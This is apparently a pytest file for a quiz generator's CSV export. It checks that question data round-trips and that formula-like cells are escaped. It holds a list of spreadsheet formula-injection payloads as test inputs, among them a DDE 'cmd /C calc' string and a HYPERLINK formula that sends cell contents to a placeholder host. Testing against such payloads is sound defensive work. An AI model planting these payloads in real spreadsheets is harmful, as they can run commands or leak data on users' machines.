"""Tables for a spreadsheet: what is in them can be read again, and nothing in them is run."""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
import unicodedata
from collections.abc import Callable
from pathlib import Path
from tempfile import TemporaryDirectory

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

import strategies
from conftest import Run
from quizgen.formats.csv import COLUMNS, Csv, escape, unescape
from quizgen.model import forms
from quizgen.model.bank import Bank, Topic
from quizgen.model.gaps import split
from quizgen.model.question import Question
from quizgen.model.values import Id, Namespace, Title
from quizgen.reading.library import load
from strategies import times

HERE = Path(__file__).parent / "csv"
ALL_TYPES = Path(__file__).parents[1] / "quiz" / "banks" / "all-types.yaml"
SEPARATORS = [",", ";", "\t"]
Row = dict[str, str]


def read_table(content: bytes, separator: str = ",") -> list[Row]:
    """The rows of a table, as whoever imports it must read them."""
    with io.TextIOWrapper(io.BytesIO(content), encoding="utf-8-sig", newline="") as file:
        head, *rows = csv.reader(file, delimiter=separator, strict=True)
    assert head == COLUMNS
    return [dict(zip(head, map(unescape, row), strict=True)) for row in rows]


def items(cell: str) -> list[str]:
    """The items of a list, whose further lines begin with two spaces."""
    parts = re.split(r"\n(?!  )", cell) if cell else []
    return [part.replace("\n  ", "\n") for part in parts]


def written(*questions: Question, separator: str = ",") -> bytes:
    bank = Bank(id=Id("b"), title=Title("B"), questions=questions)
    topic = Topic(id=Id("b"), title=Title("B"), namespace=Namespace("x" * 16), banks=(bank,))
    with TemporaryDirectory() as folder:
        path = Path(folder, "table.csv")
        Csv(separator).write(topic, path)  # type: ignore[arg-type]
        return path.read_bytes()


# -- what is in it ---------------------------------------------------------------------------------


def test_every_type_as_a_row(tmp_path: Path, request: pytest.FixtureRequest) -> None:
    """``csv/all-types.csv`` is what the bank of all types becomes: read it if you change it."""
    (topic,) = load([ALL_TYPES]).topics
    path = tmp_path / "table.csv"
    file = Csv().write(topic, path)
    golden = HERE / "all-types.csv"
    if request.config.getoption("--update-goldens"):
        shutil.copy(path, golden)
    assert read_table(path.read_bytes()) == read_table(golden.read_bytes())
    assert (file.questions, file.left_out) == (10, {"feedback": 2, "pin": 1})


def test_it_is_laid_out_as_spreadsheets_expect() -> None:
    """With a byte-order mark, CRLF after each row, and quotes where RFC 4180 asks for them."""
    (question,) = load([ALL_TYPES]).topics[0].banks[0].questions[:1]
    content = written(question)
    assert content.startswith(b"\xef\xbb\xbfbank,id,type,stem,")
    assert content.count(b"\r\n") == content.count(b"\n") == 2


@pytest.mark.parametrize("separator", SEPARATORS)
@times(2)
@given(question=strategies.questions)
def test_what_a_learner_is_asked_can_be_read_again(question: Question, separator: str) -> None:
    """Whatever characters there are, and whatever separates the cells."""
    (row,) = read_table(written(question, separator=separator), separator)
    assert (row["id"], row["type"]) == (question.id, question.type)
    assert row["explanation"] == (question.explanation or "")
    assert row["tags"].split() == list(dict.fromkeys(question.tags))
    assert row["difficulty"] == (question.difficulty or "")
    assert row["source"] == (question.source or "").replace("\n", "\n  ")
    stem, options, key = row["stem"], items(row["options"]), items(row["key"])
    match question.form():
        case forms.Reveal(prompt, answer):
            assert (stem, row["key"]) == (prompt, answer)
        case forms.Pick(prompt, listed):
            assert (stem, options) == (prompt, [option.text for option in listed])
            assert key == [option.text for option in listed if option.right]
        case forms.TypeIn(prompt, expected):
            assert stem == prompt
            if isinstance(expected, forms.ExpectedWords):
                assert row["key"] == expected.answer
                assert items(row["accepted"]) == list(expected.accept)
            elif isinstance(expected, forms.ExpectedDate):
                assert row["key"] == expected.date.iso()
            elif isinstance(expected, forms.ExpectedRange):
                assert row["key"] == expected.shown
            else:
                assert row["key"] == str(expected.number)
        case forms.Blanks() as form:
            assert len(split(stem).gaps) == len(form.gaps)
            assert key == [gap.shown for gap in form.gaps]
        case forms.Arrange(prompt, listed_items):
            assert (stem, key) == (prompt, list(listed_items))
        case forms.Pair(prompt, pairs) as form:
            assert (stem, options) == (prompt, list(form.rights))
            assert [
                each.removesuffix(f" → {right}") for each, right in zip(key, options, strict=False)
            ] == [left for left, _ in pairs]


def test_what_has_no_column_is_told(tmp_path: Path) -> None:
    """Each field, with the number of questions that have it."""
    path = tmp_path / "bank.yaml"
    path.write_text(
        "bank: b\ntitle: B\nnamespace: 4f0k2m5xw9d3r8t4vq7a\nquestions:\n"
        "  - {id: a, type: card, stem: S, answer: A, reverse: true, was: [z]}\n"
        "  - {id: b, type: card, stem: T, answer: A, retired: Too easy.}\n"
        "  - {id: c, type: short, stem: U, answer: A, reject: [B], was: [y]}\n"
    )
    (topic,) = load([path]).topics
    left_out = Csv().write(topic, tmp_path / "table.csv").left_out
    assert left_out == {"reverse": 1, "was": 2, "retired": 1, "reject": 1}


# -- nothing is run --------------------------------------------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://example.org/?"&A1,"here")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "＝1+1",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\xa0=1+1",
    "\u200b=1+1",
    "\x00=1",
    '"=1+1',
    "'=1+1",
    "''=1+1",
    "a;=1+1",
    'a","=1+1',
    "a\n=1+1",
    "a\t=1+1",
    "a; '=1",
    "\n\t'\t=;'=",
]
cells = st.text(
    st.sampled_from("=+-@＝－'\"\t\r\n ;,|a1\xa0\u200b\x00")
    | st.characters(exclude_categories=["Cs"])
)


def _runs(cell: str) -> bool:
    """Whether a spreadsheet might take ``cell`` for a formula, though it skips what is not seen."""
    seen = (
        char
        for char in cell
        if not (char.isspace() or char == '"' or unicodedata.category(char) in ("Cf", "Cc"))
    )
    return next(seen, "'") in "=+-@＝＋－＠﹦﹢﹣﹫"


@times(10)
@given(text=cells)
@example("'")
def test_what_is_escaped_can_be_taken_back(text: str) -> None:
    assert unescape(escape(text)) == text


@pytest.mark.parametrize("text", HOSTILE)
def test_what_a_spreadsheet_would_run_is_escaped(text: str) -> None:
    assert escape(text) != text
    assert unescape(escape(text)) == text


@pytest.mark.parametrize(
    "text",
    [
        "",
        "'tis",
        "a = b",
        "Marie-Thérèse",
        "1,230",
        "a, b; c",
        "e-mail: a@b",
        "'",
        "± 5%",
        "10 − 3",
    ],
)
def test_other_texts_are_left_as_they_are(text: str) -> None:
    assert escape(text) == text


@pytest.mark.parametrize("told", SEPARATORS)
@pytest.mark.parametrize("separator", SEPARATORS)
@times(1)
@given(texts=st.lists(cells | st.sampled_from(HOSTILE), min_size=1, max_size=3))
def test_no_cell_is_run_whatever_separator_a_spreadsheet_is_told(
    texts: list[str], separator: str, told: str
) -> None:
    """A spreadsheet that expects another separator finds cells within cells."""
    file = io.StringIO(newline="")
    csv.writer(file, delimiter=separator).writerow(map(escape, texts))
    for row in csv.reader(io.StringIO(file.getvalue(), newline=""), delimiter=told):
        for cell in row:
            assert not _runs(cell), cell


def test_a_long_text_is_escaped_in_linear_time() -> None:
    """It would take minutes if what follows were searched anew from each place."""
    for char in " '\n\t;\"":
        assert unescape(escape(char * 200_000)) == char * 200_000


# -- the command -----------------------------------------------------------------------------------


def test_the_command_writes_it(tmp_path: Path, quizgen: Callable[..., Run]) -> None:
    run = quizgen("build", ALL_TYPES, "--format", "csv", "-o", tmp_path)
    table = tmp_path / "all-types.csv"
    assert re.fullmatch(rf"{re.escape(str(table))}: 10 questions, \d kB\n", run.out)
    assert run.err == (
        f"{table}: this format has no place for “feedback” (2 questions), “pin” (1 question)\n"
    )
    assert len(read_table(table.read_bytes())) == 10
    again = quizgen("build", ALL_TYPES, "--format", "csv", "-o", tmp_path)
    assert again.out == run.out.replace("\n", " (unchanged)\n")


@pytest.mark.parametrize(("name", "separator"), [(",", ","), (";", ";"), ("tab", "\t")])
def test_the_separator_is_chosen(
    name: str, separator: str, tmp_path: Path, quizgen: Callable[..., Run]
) -> None:
    quizgen("build", ALL_TYPES, "--format", "csv", "--separator", name, "-o", tmp_path)
    assert len(read_table((tmp_path / "all-types.csv").read_bytes(), separator)) == 10


@pytest.mark.parametrize(
    ("options", "message"),
    [
        (["--format", "csv", "--locked"], "--locked is for Anki packages"),
        (["--separator", ";"], "--separator is not an option of the format anki"),
        (["--format", "csv", "--separator", "x"], "is not one of"),
    ],
)
def test_options_of_another_format_are_refused(
    options: list[str], message: str, tmp_path: Path, quizgen: Callable[..., Run]
) -> None:
    run = quizgen("build", ALL_TYPES, *options, "-o", tmp_path / "output")
    assert run.code == 2
    assert message in run.err
    assert not (tmp_path / "output").exists()


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
@pytest.mark.parametrize("told", [",", ";"])
def test_libreoffice_reads_it_and_runs_nothing(told: str, tmp_path: Path) -> None:
    """It finds no formula, whatever separator it is told."""
    (tmp_path / "in.csv").write_bytes(_hostile_table())
    subprocess.run(
        [
            *("soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/profile"),
            f"--infilter=CSV:{ord(told)},34,76,1,,0,false,true,false,false,false,-1",
            *("--convert-to", "fods", "--outdir", str(tmp_path), str(tmp_path / "in.csv")),
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )
    converted = (tmp_path / "in.fods").read_text(encoding="utf-8")
    assert converted.count("<table:table-cell") > 10
    assert "table:formula=" not in converted


def _hostile_table() -> bytes:
    file = io.StringIO(newline="")
    csv.writer(file).writerows([escape(text), "A"] for text in HOSTILE if "\x00" not in text)
    return file.getvalue().encode("utf-8-sig")
